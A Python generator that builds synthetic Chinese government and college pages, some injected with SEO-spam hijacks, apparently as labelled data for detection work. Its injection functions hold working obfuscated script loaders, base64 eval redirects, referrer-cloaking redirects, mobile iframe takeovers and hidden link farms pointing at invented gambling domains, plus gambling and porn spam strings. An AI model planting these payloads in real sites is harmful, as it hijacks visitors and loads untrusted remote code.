# -*- coding: utf-8 -*-
"""Generate ../synthetic-v34/ : 40 synthetic gov/edu pages (28 hijacked, 12 clean of which 4 legit).

python3 make_set.py            (fixed seed; byte-identical on re-run)

Templates (families no earlier generator used):
  L1 layui   - township portal on Layui grid (layui-card), byline line 发布时间/来源/作者/浏览次数      utf-8
  A2 amazeui - AmazeUI (妹子UI) school site, am-article with am-article-meta byline, 点击 badge  gb18030
  T3 tw11ty  - Tailwind/Eleventy static college page, <dl> metadata (发布日期/信息来源/责任编辑)  utf-8
  U4 uikit   - UIkit county 信息公开 page: uk-table metadata (索引号/发布机构/成文日期/文号)       gbk
  B5 bulma   - Bulma college news, tag pills for date/来源/撰稿/阅读                             utf-8
  D6 docblog - Docusaurus-like bureau blog, <time> + author line, 稿件来源 after the text          utf-8
Sites (brief item 5): 4 sites x 5 pages (templates L1, A2, U4, B5), each with one shared injection
on 2-3 pages and the other pages clean; truth `site` = host.  20 single pages over all templates.
"""
import html
import json
import os
import random

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.normpath(os.path.join(HERE, "..", "synthetic-v34"))
R = random.Random(3434)
E = html.escape

# ------------------------------------------------------------------ invented spam material
BRANDS = {
    "b1": "曜鼎汇娱乐",        # cloaking-site brand
    "b2": "蔚峦岛国际",        # hidden link farm
    "b3": "澜庭壹号娱乐城",    # brand in place
    "b4": "赤霄百乐坊",        # meta refresh / title
    "b5": "翡冠盛世真人",      # doc.write links
    "b6": "玖曦体育",          # brand credit
    "b7": "沧銮国际棋牌",      # spam lines
    "b8": "蘅岚彩讯",        # friend links
    "b9": "铂曜电竞竞猜",      # popup layer
}
DOMAINS = {
    "b1": "yd7h58.vip", "b2": "wlgj3361.top", "b3": "lt1hao.cc", "b4": "cxbl9.xyz", "b5": "fgss88.vip",
    "b6": "jiuxi-ty.app", "b7": "cljgqp.top", "b8": "hlcx5.com", "b9": "bydj77.vip",
}
PORN_LINE = "晚晴私拍_夜色视频在线_午夜宅男影院_成人无删减高清"

# ------------------------------------------------------------------ article bank
PLACES = ["青溪镇", "白鹭乡", "云岭街道", "石门镇", "东沙乡", "柳堤镇", "瓦桥街道", "鹤鸣乡", "南岗镇", "桐溪乡"]
COUNTIES = ["临川县", "东坪县", "安澜区", "北渚县", "平泉县"]
SCHOOLS = ["枫林职业技术学院", "澄江师范学院", "北岭理工学院", "南溪医学高等专科学校", "云麓学院"]
PEOPLE = ["陈思远", "李明轩", "王晓岚", "赵德明", "周雨桐", "吴建国", "孙静怡", "郑海波", "冯立新", "何嘉禾",
          "许文博", "韩秋月", "唐志刚", "曹慧敏", "彭宇航", "蒋书瑶", "沈国庆", "董雅琴"]

TOPICS_GOV = [
    ("召开{season}森林防火工作部署会",
     ["{d}上午,{p}召开{season}森林防火工作部署会,镇村两级干部、护林员共六十余人参加会议。",
      "会议通报了近期辖区火险形势,要求各村严格落实网格化巡护责任,清明、秋收等重点时段实行24小时值守。",
      "会上,分管负责同志对野外用火审批、防火物资储备和应急队伍演练作出具体安排,并与各村签订目标责任书。",
      "会议强调,要坚持预防为主、防灭结合,确保不发生重大森林火灾。"]),
    ("开展城乡环境卫生集中整治行动",
     ["为巩固人居环境整治成果,{d}起,{p}组织机关干部、志愿者分片开展城乡环境卫生集中整治行动。",
      "此次行动重点清理背街小巷、河道沟渠和农贸市场周边的卫生死角,累计清运垃圾一百二十余吨。",
      "各村同步开展门前三包责任落实情况检查,对发现的问题建立台账、限期整改。",
      "下一步,{p}将建立常态化保洁机制,推动环境整治由集中攻坚向长效管护转变。"]),
    ("举办新就业形态劳动者权益保障宣讲会",
     ["{d},{p}总工会联合人社部门举办新就业形态劳动者权益保障宣讲会,外卖骑手、网约车司机等八十余人参加。",
      "宣讲人员围绕劳动合同签订、工伤保险参保、工资支付保障等内容进行讲解,并现场解答咨询。",
      "活动现场发放《劳动者维权手册》三百余份,为参会人员办理工会会员入会手续四十余人。",
      "{p}将持续做好服务保障工作,切实维护新就业形态劳动者合法权益。"]),
    ("推进高标准农田建设项目验收",
     ["{d},{c}农业农村局组织专家对{p}高标准农田建设项目进行竣工验收。",
      "验收组实地查看了田间道路、灌排渠系和机耕桥等工程,查阅了项目档案和资金使用台账。",
      "该项目建设面积三千二百亩,新修渠道十二公里,完成土壤改良一千五百亩,有效提升了耕地质量。",
      "验收组认为项目建设内容完整、质量符合要求,同意通过竣工验收。"]),
    ("开展防汛应急演练",
     ["{d},{p}在白沙河沿岸组织开展防汛应急演练,镇应急分队、村民兵共一百余人参演。",
      "演练模拟强降雨导致河道水位暴涨、低洼地带群众被困的情景,设置了险情报告、人员转移、堤坝抢护等科目。",
      "各参演队伍反应迅速、衔接有序,检验了预案的可操作性和队伍的实战能力。",
      "演练结束后,{p}对防汛物资储备情况进行了检查,并对下一步工作提出要求。"]),
    ("召开优化营商环境工作推进会",
     ["{d}下午,{c}召开优化营商环境工作推进会,县直有关部门和各乡镇分管负责同志参加。",
      "会议通报了上半年营商环境评价指标完成情况,对企业开办、工程建设项目审批等短板指标进行分析。",
      "会议要求,各部门要对标先进地区,压缩审批时限,推行一件事一次办,切实提升企业和群众满意度。",
      "会上,县政务服务中心等三个单位作了交流发言。"]),
    ("开展老年人防诈骗宣传进社区活动",
     ["{d},{p}派出所联合社区居委会在文化广场开展老年人防诈骗宣传活动。",
      "民警结合保健品推销、冒充公检法、虚假投资理财等典型案例,向老年群众讲解常见诈骗手法。",
      "活动共发放宣传资料四百余份,帮助一百余名群众下载安装国家反诈中心APP。",
      "社区工作人员表示,将定期组织此类活动,守护老年人的钱袋子。"]),
]
TOPICS_EDU = [
    ("举行2025届毕业生就业双选会",
     ["{d},{s}2025届毕业生就业双选会在体育馆举行,共有一百六十余家用人单位进场招聘。",
      "本次双选会提供智能制造、医疗卫生、现代服务等领域岗位三千余个,吸引校内外毕业生两千余人参会。",
      "学校就业指导中心在现场设置简历诊断、政策咨询服务台,为毕业生提供一对一指导。",
      "据统计,当天共有六百余名毕业生与用人单位达成初步就业意向。"]),
    ("召开本科教学工作会议",
     ["{d},{s}召开本科教学工作会议,校领导、各二级学院院长及教学督导参加会议。",
      "会议总结了上一学年教学工作,通报了专业评估和课程建设情况,部署了新学期重点任务。",
      "会议指出,要以一流课程建设为抓手,深化课堂教学改革,推进信息技术与教育教学深度融合。",
      "与会人员围绕教学质量保障体系建设进行了分组讨论。"]),
    ("学子在全国大学生数学建模竞赛中获佳绩",
     ["近日,全国大学生数学建模竞赛结果揭晓,{s}学子获国家二等奖一项、省级一等奖三项。",
      "本届竞赛共有来自全国一千六百余所高校的六万余支队伍参赛,赛题涉及交通调度、能源优化等实际问题。",
      "学校数学建模指导团队自暑假起组织集中培训,参赛学生克服困难、团结协作,展现了良好的专业素养。",
      "学校将进一步完善学科竞赛激励机制,推动以赛促学、以赛促教。"]),
    ("开展新生入学安全教育",
     ["{d},{s}面向2025级新生开展入学安全教育,保卫处、学生处有关负责同志为新生授课。",
      "讲座围绕消防安全、交通安全、网络安全和防范电信诈骗等内容,结合真实案例进行讲解。",
      "课后,新生分批参加了灭火器使用和应急疏散演练。",
      "学校将持续把安全教育贯穿新生入学教育全过程,筑牢校园安全防线。"]),
    ("举办产教融合校企合作洽谈会",
     ["{d},{s}举办产教融合校企合作洽谈会,四十余家企业代表与学校各专业负责人进行对接。",
      "洽谈会上,学校与五家企业签订了共建实训基地和订单培养协议。",
      "企业代表表示,将在课程开发、师资培训和学生实习等方面深化合作。",
      "学校负责人表示,将以此次洽谈会为契机,推动人才培养与产业需求精准对接。"]),
    ("图书馆举办“书香校园”读书月活动",
     ["{d},{s}图书馆“书香校园”读书月活动正式启动,活动将持续至本月底。",
      "读书月期间,图书馆将举办名家讲座、好书推荐、读书分享会和古籍修复体验等系列活动。",
      "启动仪式上,图书馆为上一年度借阅量排名前十的读者颁发了“阅读之星”证书。",
      "图书馆负责人表示,希望通过系列活动营造浓厚的读书氛围。"]),
]
TOPICS_LEGIT = [
    ("2024年度福利彩票公益金使用情况公告",
     ["根据《彩票管理条例》《彩票公益金管理办法》等规定,现将{c}民政局2024年度福利彩票公益金使用情况公告如下。",
      "2024年度,{c}本级共使用福利彩票公益金八百六十万元,主要用于养老服务设施建设、困境儿童关爱保护和残疾人康复服务。",
      "其中,支持乡镇敬老院改造提升项目四个,资助困境儿童助学项目一个,为一百二十名残疾人提供康复辅具适配服务。",
      "欢迎社会各界对福利彩票公益金的使用情况进行监督。"]),
    ("开展打击整治赌博违法犯罪专项宣传",
     ["{d},{c}公安局在{p}集市开展打击整治赌博违法犯罪专项宣传活动。",
      "民警通过设置展板、发放宣传单等方式,向群众讲解网络赌博、跨境赌博的危害和常见引诱手段。",
      "民警提醒,参与赌博不仅会造成财产损失,为赌博网站提供账户、推广等帮助也可能构成犯罪。",
      "活动现场共发放宣传资料六百余份,接受群众咨询九十余人次。"]),
    ("体彩实体店责任彩票合规检查情况通报",
     ["为落实责任彩票工作要求,{d}起,{c}体育彩票管理中心对辖区体彩实体店开展合规销售检查。",
      "检查重点包括未成年人禁止购彩警示标识张贴、大额购彩登记和劝导、是否存在网络代购等违规行为。",
      "本次共检查实体店四十二家,发现并督促整改问题七个,对一家违规实体店暂停销售资格。",
      "中心提醒广大购彩者理性购彩、量力而行,远离非法彩票。"]),
    ("关于规范棋牌室经营秩序严禁赌博活动的通告",
     ["为维护社会治安秩序,根据《中华人民共和国治安管理处罚法》等规定,现就规范{p}辖区棋牌室经营秩序通告如下。",
      "一、棋牌室经营者应当依法办理相关登记手续,不得为赌博活动提供场所、设施和条件。",
      "二、严禁以营利为目的聚众赌博或者以赌博为业,严禁利用网络组织赌博。",
      "三、欢迎群众举报涉赌违法犯罪线索,对查证属实的将依规给予奖励。"]),
]

SEASONS = ["春季", "秋冬季"]


def fmt_date(y, m, d, style):
    if style == 0:
        return "%d-%02d-%02d" % (y, m, d)
    if style == 1:
        return "%d年%02d月%02d日" % (y, m, d)
    if style == 2:
        return "%d/%d/%d" % (y, m, d)
    return "%d.%02d.%02d" % (y, m, d)


def make_article(kind, i, bind=None):
    bank = {"gov": TOPICS_GOV, "edu": TOPICS_EDU, "legit": TOPICS_LEGIT}[kind]
    head, paras = bank[i % len(bank)]
    y, m, d = 2025, R.randint(1, 11), R.randint(1, 28)
    p, c, s = R.choice(PLACES), R.choice(COUNTIES), R.choice(SCHOOLS)
    bind = bind or {}
    p, c, s = bind.get("p", p), bind.get("c", c), bind.get("s", s)
    season = R.choice(SEASONS)
    dd = "%d月%d日" % (m, d)
    fill = dict(d=dd, p=p, c=c, s=s, season=season)
    title = head.format(**fill)
    if kind == "gov" and not title.startswith(p) and "{c}" not in head:
        title = p + title
    if kind == "edu" and "{s}" not in head:
        title = s + title
    body = [x.format(**fill) for x in paras]
    return dict(title=title, paras=body, date=(y, m, d), place=p, county=c, school=s, topic=i % len(bank))


# ------------------------------------------------------------------ templates
def tpl_L1(a, meta, host, inj):
    return """<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="renderer" content="webkit">
<title>{title_tag}</title>{head_inj}
<link rel="stylesheet" href="/static/layui/css/layui.css">
<link rel="stylesheet" href="/static/css/portal.css">
</head>
<body class="layui-layout-body">{body_top}
<div class="portal-top"><div class="layui-container"><img src="/static/img/logo.png" alt="{site}"><span class="site-name">{site}</span></div></div>
<ul class="layui-nav portal-nav"><li class="layui-nav-item"><a href="/">首页</a></li><li class="layui-nav-item"><a href="/xwzx/">新闻中心</a></li><li class="layui-nav-item"><a href="/zwgk/">政务公开</a></li><li class="layui-nav-item"><a href="/bsfw/">办事服务</a></li><li class="layui-nav-item"><a href="/hdjl/">互动交流</a></li></ul>
<div class="layui-container">
 <div class="layui-row layui-col-space15">
  <div class="layui-col-md9">
   <div class="layui-card">
    <div class="layui-card-header"><span class="layui-breadcrumb"><a href="/">首页</a><a href="/xwzx/">新闻中心</a><a><cite>乡镇动态</cite></a></span></div>
    <div class="layui-card-body">
     <h2 class="art-tit">{h1}</h2>
     <div class="art-meta">{byline}</div>
     <div class="art-con">
{paras}
     </div>{after_text}
    </div>
   </div>
  </div>
  <div class="layui-col-md3"><div class="layui-card"><div class="layui-card-header">热点信息</div><div class="layui-card-body"><ul class="hot"><li><a href="#">政府信息公开年度报告</a></li><li><a href="#">便民服务电话</a></li><li><a href="#">12345热线</a></li></ul></div></div></div>
 </div>
</div>
<div class="portal-foot">{foot_inj}<p>主办:{site} 承办:党政办公室 地址:{place}人民路1号</p><p>网站标识码:{code} ICP备案号:备2025{code4}号</p></div>{tail_inj}
</body>
</html>
""".format(**_fill(a, meta, host, inj))


def tpl_A2(a, meta, host, inj):
    return """<!DOCTYPE html>
<html class="no-js">
<head>
<meta charset="gb18030">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<title>{title_tag}</title>{head_inj}
<link rel="stylesheet" href="/assets/amazeui/css/amazeui.min.css">
<link rel="stylesheet" href="/assets/css/school.css">
</head>
<body>{body_top}
<header class="am-topbar am-topbar-inverse"><h1 class="am-topbar-brand"><a href="/">{site}</a></h1>
<ul class="am-nav am-nav-pills am-topbar-nav"><li><a href="/">首页</a></li><li><a href="/xxgk/">学校概况</a></li><li class="am-active"><a href="/xwzx/">新闻中心</a></li><li><a href="/jxky/">教学科研</a></li><li><a href="/zsjy/">招生就业</a></li></ul></header>
<div class="am-g am-container">
<div class="am-u-md-3 sidebar"><section class="am-panel am-panel-default"><header class="am-panel-hd">新闻中心</header><ul class="am-list"><li><a href="/xwzx/xxyw/">学校要闻</a></li><li><a href="/xwzx/tzgg/">通知公告</a></li><li><a href="/xwzx/mtbd/">媒体报道</a></li></ul></section></div>
<div class="am-u-md-9">
<ol class="am-breadcrumb"><li><a href="/">首页</a></li><li><a href="/xwzx/">新闻中心</a></li><li class="am-active">学校要闻</li></ol>
<article class="am-article">
<div class="am-article-hd"><h1 class="am-article-title">{h1}</h1><p class="am-article-meta">{byline}</p></div>
<div class="am-article-bd">
{paras}
</div>{after_text}
</article>
<ul class="am-pagination"><li class="am-pagination-prev"><a href="#">上一篇:关于做好期末考试工作的通知</a></li><li class="am-pagination-next"><a href="#">下一篇:学校召开安全稳定工作会议</a></li></ul>
</div>
</div>
<footer class="am-footer am-footer-default"><div class="am-footer-miscs">{foot_inj}<p>版权所有 {site} 地址:{place}学府路88号 邮编:{code4}00</p></div></footer>{tail_inj}
</body>
</html>
""".format(**_fill(a, meta, host, inj))


def tpl_T3(a, meta, host, inj):
    return """<!doctype html>
<html lang="zh-Hans">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{title_tag}</title>{head_inj}
<link href="/assets/tailwind.min.css" rel="stylesheet">
<meta name="generator" content="Eleventy v2.0.1">
</head>
<body class="bg-slate-50 text-slate-800">{body_top}
<header class="bg-emerald-800 text-white"><div class="max-w-5xl mx-auto px-4 py-5 flex items-center gap-3"><img src="/assets/logo.svg" class="h-10" alt=""><span class="text-xl font-bold">{site}</span></div>
<nav class="max-w-5xl mx-auto px-4 pb-3 text-sm space-x-6"><a href="/">首页</a><a href="/news/">新闻</a><a href="/notice/">公告</a><a href="/about/">概况</a></nav></header>
<main class="max-w-5xl mx-auto px-4 py-8 grid grid-cols-12 gap-8">
<article class="col-span-9 prose prose-slate">
<h1 class="text-2xl font-semibold">{h1}</h1>
<dl class="grid grid-cols-3 text-sm text-slate-500 border-y py-2 my-4">{byline}</dl>
<div class="article-body">
{paras}
</div>{after_text}
</article>
<aside class="col-span-3 text-sm"><h2 class="font-bold mb-2">最新公告</h2><ul class="space-y-1"><li><a href="#">校历调整通知</a></li><li><a href="#">奖学金评审公示</a></li></ul></aside>
</main>
<footer class="bg-slate-900 text-slate-300 text-sm py-6 text-center">{foot_inj}© 2025 {site} · {place}</footer>{tail_inj}
</body>
</html>
""".format(**_fill(a, meta, host, inj))


def tpl_U4(a, meta, host, inj):
    return """<!DOCTYPE html>
<html lang="zh-cn">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=GBK">
<title>{title_tag}</title>{head_inj}
<link rel="stylesheet" href="/static/uikit/css/uikit.min.css">
</head>
<body>{body_top}
<div class="uk-section-primary uk-padding-small"><div class="uk-container"><span class="uk-h3">{site}</span></div></div>
<nav class="uk-navbar-container uk-container" uk-navbar><ul class="uk-navbar-nav"><li><a href="/">首页</a></li><li class="uk-active"><a href="/xxgk/">政府信息公开</a></li><li><a href="/zwfw/">政务服务</a></li></ul></nav>
<div class="uk-container uk-margin">
<ul class="uk-breadcrumb"><li><a href="/">首页</a></li><li><a href="/xxgk/">政府信息公开</a></li><li><span>工作动态</span></li></ul>
<table class="uk-table uk-table-divider uk-table-small gk-meta">
<tr><th>索 引 号</th><td>{idx}</td><th>主题分类</th><td>综合政务</td></tr>
<tr><th>发布机构</th><td>{pub}</td><th>成文日期</th><td>{gen}</td></tr>
<tr><th>文&nbsp;&nbsp;&nbsp;&nbsp;号</th><td></td><th>有 效 性</th><td>有效</td></tr>
</table>
<h2 class="uk-heading-small uk-text-center">{h1}</h2>
<p class="uk-text-meta uk-text-center">{byline}</p>
<div class="uk-article article-content">
{paras}
</div>{after_text}
<p class="uk-text-right"><a href="javascript:window.print()">【打印本页】</a> <a href="javascript:window.close()">【关闭窗口】</a></p>
</div>
<div class="uk-section-secondary uk-padding-small uk-text-center">{foot_inj}{site}版权所有 &nbsp; 网站标识码:{code}</div>{tail_inj}
</body>
</html>
""".format(**_fill(a, meta, host, inj))


def tpl_B5(a, meta, host, inj):
    return """<!DOCTYPE html>
<html lang="zh">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{title_tag}</title>{head_inj}
<link rel="stylesheet" href="/css/bulma.min.css">
</head>
<body>{body_top}
<nav class="navbar is-link"><div class="navbar-brand"><a class="navbar-item" href="/"><strong>{site}</strong></a></div>
<div class="navbar-menu"><div class="navbar-start"><a class="navbar-item" href="/xwzx/">新闻中心</a><a class="navbar-item" href="/jyjx/">教育教学</a><a class="navbar-item" href="/xsgz/">学生工作</a></div></div></nav>
<section class="section"><div class="container"><div class="columns">
<div class="column is-9">
<nav class="breadcrumb"><ul><li><a href="/">首页</a></li><li><a href="/xwzx/">新闻中心</a></li><li class="is-active"><a>综合新闻</a></li></ul></nav>
<h1 class="title is-4">{h1}</h1>
<div class="tags">{byline}</div>
<div class="content news-body">
{paras}
</div>{after_text}
</div>
<div class="column is-3"><div class="box"><p class="menu-label">快速通道</p><ul class="menu-list"><li><a href="#">信息门户</a></li><li><a href="#">图书馆</a></li><li><a href="#">教务系统</a></li></ul></div></div>
</div></div></section>
<footer class="footer"><div class="content has-text-centered">{foot_inj}<p>{site} 版权所有 · 地址:{place}文昌路6号</p></div></footer>{tail_inj}
</body>
</html>
""".format(**_fill(a, meta, host, inj))


def tpl_D6(a, meta, host, inj):
    return """<!doctype html>
<html lang="zh-CN" dir="ltr">
<head>
<meta charset="UTF-8">
<meta name="generator" content="Docusaurus v3.1.0">
<title>{title_tag}</title>{head_inj}
<link rel="stylesheet" href="/assets/css/styles.7d3c1f.css">
</head>
<body class="navigation-with-keyboard">{body_top}
<div id="__docusaurus"><nav class="navbar navbar--fixed-top"><div class="navbar__inner"><a class="navbar__brand" href="/"><b class="navbar__title">{site}</b></a><a class="navbar__item navbar__link" href="/blog">工作动态</a><a class="navbar__item navbar__link" href="/docs">政策文件</a></div></nav>
<div class="main-wrapper"><div class="container margin-vert--lg"><div class="row">
<main class="col col--8 col--offset-1">
<article itemscope itemtype="http://schema.org/BlogPosting">
<header><h1 class="title_f1Hy" itemprop="headline">{h1}</h1>
<div class="container_mt6G margin-vert--md">{byline}</div></header>
<div class="markdown" itemprop="articleBody">
{paras}
</div>{after_text}
<footer class="row docusaurus-mt-lg"><div class="col">{src_line}</div></footer>
</article>
</main></div></div></div>
<footer class="footer footer--dark"><div class="container">{foot_inj}Copyright © 2025 {site}</div></footer></div>{tail_inj}
</body>
</html>
""".format(**_fill(a, meta, host, inj))


TEMPLATES = {"L1": tpl_L1, "A2": tpl_A2, "T3": tpl_T3, "U4": tpl_U4, "B5": tpl_B5, "D6": tpl_D6}
TPL_NAME = {"L1": "L1-layui-township", "A2": "A2-amazeui-school", "T3": "T3-tailwind-eleventy",
            "U4": "U4-uikit-xxgk", "B5": "B5-bulma-college", "D6": "D6-docusaurus-bureau"}
TPL_ENC = {"L1": "utf-8", "A2": "gb18030", "T3": "utf-8", "U4": "gbk", "B5": "utf-8", "D6": "utf-8"}


def byline_for(tpl, meta):
    ds, src, au, views = meta["date_str"], meta["source"], meta["author"], meta["views"]
    if tpl == "L1":
        s = "发布时间:%s %s　来源:%s" % (ds, meta["time"], E(src))
        if au:
            s += "　作者:%s" % E(au)
        return s + "　浏览次数:<span id=\"hits\">%d</span>" % views
    if tpl == "A2":
        s = "时间:%s　　来源:%s" % (ds, E(src))
        if au:
            s += "　　作者:%s" % E(au)
        return s + "　　点击:<span class=\"am-badge\">%d</span>次" % views
    if tpl == "T3":
        s = "<div><dt>发布日期</dt><dd>%s</dd></div><div><dt>信息来源</dt><dd>%s</dd></div>" % (ds, E(src))
        if au:
            s += "<div><dt>责任编辑</dt><dd>%s</dd></div>" % E(au)
        return s
    if tpl == "U4":
        s = "来源:%s" % E(src)
        if au:
            s += "&nbsp;&nbsp;&nbsp;作者:%s" % E(au)
        return s + "&nbsp;&nbsp;&nbsp;发布时间:%s" % ds
    if tpl == "B5":
        s = '<span class="tag is-light">%s</span><span class="tag is-light">来源:%s</span>' % (ds, E(src))
        if au:
            s += '<span class="tag is-light">撰稿:%s</span>' % E(au)
        return s + '<span class="tag is-light">阅读 %d</span>' % views
    if tpl == "D6":
        s = '<time datetime="%s" itemprop="datePublished">%s</time>' % (meta["iso"], ds)
        if au:
            s += ' · <span class="authorName" itemprop="author">%s</span>' % E(au)
        return s
    raise ValueError(tpl)


def _fill(a, meta, host, inj):
    paras = "\n".join("<p>%s</p>" % E(p) if not p.startswith("<") else p for p in meta["page_paras"])
    title_tag = inj.get("title_tag") or ("%s-%s" % (a["title"], meta["site"]))
    h1 = inj.get("h1") or E(a["title"])
    return dict(
        title_tag=E(title_tag) if not inj.get("title_raw") else title_tag,
        head_inj=inj.get("head", ""), body_top=inj.get("body_top", ""), foot_inj=inj.get("foot", ""),
        tail_inj=inj.get("tail", ""), after_text=inj.get("after_text", ""),
        after_text_tr=("<tr><td>%s</td></tr>" % inj["after_text"]) if inj.get("after_text") else "",
        site=E(inj.get("site_name") or meta["site"]), place=E(a["place"]), h1=h1,
        byline=inj.get("byline") or byline_for(meta["tpl"], meta), paras=paras,
        code=meta["code"], code4=meta["code"][-4:], idx=meta["idx"], pub=E(meta["source"]), gen=meta["iso"],
        src_line=("稿件来源:%s" % E(inj.get("src_shown") or meta["source"])),
    )


# ------------------------------------------------------------------ injections
def hexs(s):
    return "".join("\\x%02x" % b for b in s.encode("utf-8"))


def inj_referrer_cloak(b):
    d = DOMAINS[b]
    js = ('<script type="text/javascript">\n(function(){var r=document.referrer;'
          'var se=/\\.(baidu|sogou|so|sm|bing|google|toutiao|360)\\./i;'
          'var ua=navigator.userAgent;'
          'if(se.test(r)&&!/spider|bot/i.test(ua)){window.location.replace("https://www.%s/?from=gov");}})();\n</script>' % d)
    return dict(head="\n" + js), []


def inj_hidden_offscreen(b):
    br, d = BRANDS[b], DOMAINS[b]
    links = ["%s" % br, "%s官网" % br, "%s网址" % br, "%s手机版" % br]
    block = ('\n<div style="position:absolute;left:-9999px;top:-9999px;width:1px;height:1px;overflow:hidden">' +
             "".join('<a href="https://%s/%d.html">%s</a>' % (d, i, E(t)) for i, t in enumerate(links)) + "</div>")
    return dict(foot=block), links


def inj_brand_in_place(b, site_real):
    br = BRANDS[b]
    return dict(site_name=br), [br]


def inj_meta_refresh(b):
    d = DOMAINS[b]
    t = "%s-%s官方网站-%s app下载" % (BRANDS[b], BRANDS[b], BRANDS[b][:2])
    return dict(head='\n<meta http-equiv="refresh" content="3;url=https://%s/">' % d, title_tag=t), [t]


def inj_docwrite_links(b):
    br, d = BRANDS[b], DOMAINS[b]
    items = ["%s真人视讯" % br, "%s在线开户" % br, "%s体育投注" % br]
    js = ("\n<script>document.write('<div style=\"display:none\">" +
          "".join("<a href=\"https://%s/\">%s</a>" % (d, t) for t in items) + "</div>');</script>")
    return dict(tail=js), items


def inj_hex_loader(b):
    d = DOMAINS[b]
    url = "https://js.%s/c.js" % d
    js = ('\n<script>var _0x5e=["%s","%s","%s"];(function(){var s=document[_0x5e[1]]("script");'
          's[_0x5e[2]]=_0x5e[0];document.getElementsByTagName("head")[0].appendChild(s);})();</script>'
          % (hexs(url), hexs("createElement"), hexs("src")))
    return dict(tail=js), []


def inj_iframe_takeover(b):
    d = DOMAINS[b]
    js = ('\n<script>if(/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)){document.write(\'<iframe src="https://m.%s/" '
          'style="position:fixed;top:0;left:0;width:100%%;height:100%%;z-index:2147483647;border:0;background:#fff"></iframe>\');'
          'document.title="%s";}</script>' % (d, BRANDS[b]))
    return dict(tail=js), []


def inj_atob_eval(b):
    import base64
    code = 'window.location.href="https://www.%s/";' % DOMAINS[b]
    enc = base64.b64encode(code.encode()).decode()
    js = '\n<script>setTimeout(function(){eval(atob("%s"))},1500);</script>' % enc
    return dict(head="\n" + js), []


def inj_brand_credit(b):
    return dict(src_shown=BRANDS[b]), [BRANDS[b]]


def inj_spam_lines(b):
    br = BRANDS[b]
    lines = ["%s,%s官网,%s注册即送88" % (br, br, br), "%s棋牌游戏下载_%s app" % (br, br)]
    return dict(spam_paras=lines), lines


def inj_friend_links(b):
    br, d = BRANDS[b], DOMAINS[b]
    spam = ["%s" % br, "%s开奖直播" % br]
    block = ('\n<div class="links">友情链接:<a href="http://www.gov.cn/">中国政府网</a> <a href="#">省人民政府</a> '
             '<a href="https://www.%s/">%s</a> <a href="#">市教育局</a> <a href="https://kj.%s/">%s</a></div>'
             % (d, E(spam[0]), d, E(spam[1])))
    return dict(foot=block), spam


def inj_popup_layer(b):
    br, d = BRANDS[b], DOMAINS[b]
    t = "%s · 首充送88 · 立即下载" % br
    js = ('\n<script>setTimeout(function(){var x=document.createElement("div");'
          'x.style.cssText="position:fixed;right:10px;bottom:10px;width:300px;z-index:99999;background:#b00;color:#fff;padding:12px";'
          'x.innerHTML="<a style=\\"color:#fff\\" href=\\"https://%s/\\">%s</a>";document.body.appendChild(x);},3000);</script>'
          % (d, t))
    return dict(tail=js), [t]


def inj_js_title(b):
    t = "%s官方入口_%s最新网址" % (BRANDS[b], BRANDS[b])
    js = '\n<script>document.title="%s";</script>' % t
    return dict(head=js), [t]


def inj_porn_title(_b):
    return dict(title_tag=PORN_LINE, body_top='\n<div class="kw-line">%s</div>' % E(PORN_LINE)), [PORN_LINE]


def inj_junk_tags(_b):
    junk = "".join('<%s id="q7zk"></%s>' % (t, t) for t in ("sup", "tfoot", "noscript", "dfn", "var"))
    return dict(title_tag=PORN_LINE, body_top="\n" + junk + '\n<p class="kw">%s</p>' % E(PORN_LINE)), [PORN_LINE]


def inj_headline_splice(b):
    return dict(h1_prefix=BRANDS[b]), [BRANDS[b]]


def inj_unicode_docwrite(b):
    t = "%s体育投注" % BRANDS[b]
    esc = "".join("\\u%04x" % ord(ch) for ch in '<p style="font-size:0">%s</p>' % t)
    return dict(tail='\n<script>document.write("%s");</script>' % esc), []


FORMS = {
    "referrer-cloak-redirect": inj_referrer_cloak, "hidden-offscreen-links": inj_hidden_offscreen,
    "meta-refresh-keyword-title": inj_meta_refresh, "document-write-hidden-links": inj_docwrite_links,
    "hex-script-loader": inj_hex_loader, "mobile-iframe-takeover": inj_iframe_takeover,
    "base64-eval-redirect": inj_atob_eval, "brand-credit-source": inj_brand_credit,
    "spam-lines-in-body": inj_spam_lines, "sold-friend-links": inj_friend_links,
    "popup-layer-script": inj_popup_layer, "js-title-rewrite": inj_js_title,
    "porn-keyword-title": inj_porn_title, "junk-tags-porn-title": inj_junk_tags,
    "brand-in-headline": inj_headline_splice, "unicode-document-write": inj_unicode_docwrite,
}

# ------------------------------------------------------------------ plan
SITES = [
    # host, template, site name, article kind, injection form, brand, hijacked page indexes (0-4), legit page idx
    ("www.heyuanpu.gov.cn", "L1", "河源铺镇人民政府", "gov", "referrer-cloak-redirect", "b1", {0, 2, 3}, 4,
     {"p": "河源铺镇", "c": "临川县"}),
    ("www.chengjiang-nu.edu.cn", "A2", "澄江师范学院", "edu", "hidden-offscreen-links", "b2", {1, 2, 4}, None,
     {"s": "澄江师范学院"}),
    ("xxgk.beizhu.gov.cn", "U4", "北渚县人民政府", "gov", "brand-in-headline", "b3", {0, 3}, 2, {"c": "北渚县"}),
    ("news.yunlu-college.edu.cn", "B5", "云麓学院新闻网", "edu", "meta-refresh-keyword-title", "b4", {1, 2, 4}, None,
     {"s": "云麓学院"}),
]
SINGLE_FORMS = [
    "document-write-hidden-links", "hex-script-loader", "mobile-iframe-takeover", "base64-eval-redirect",
    "brand-credit-source", "spam-lines-in-body", "sold-friend-links", "popup-layer-script", "js-title-rewrite",
    "porn-keyword-title", "junk-tags-porn-title", "unicode-document-write", "referrer-cloak-redirect",
    "hidden-offscreen-links", "meta-refresh-keyword-title", "brand-credit-source", "sold-friend-links",
]
SINGLE_BRANDS = ["b5", "b1", "b9", "b4", "b6", "b7", "b8", "b9", "b6", "b7", "b8", "b5", "b2", "b3", "b1", "b7", "b2"]
SINGLE_TPLS = ["T3", "D6", "L1", "A2", "U4", "B5", "T3", "D6", "L1", "A2", "U4", "B5", "T3", "D6", "T3", "D6", "A2"]
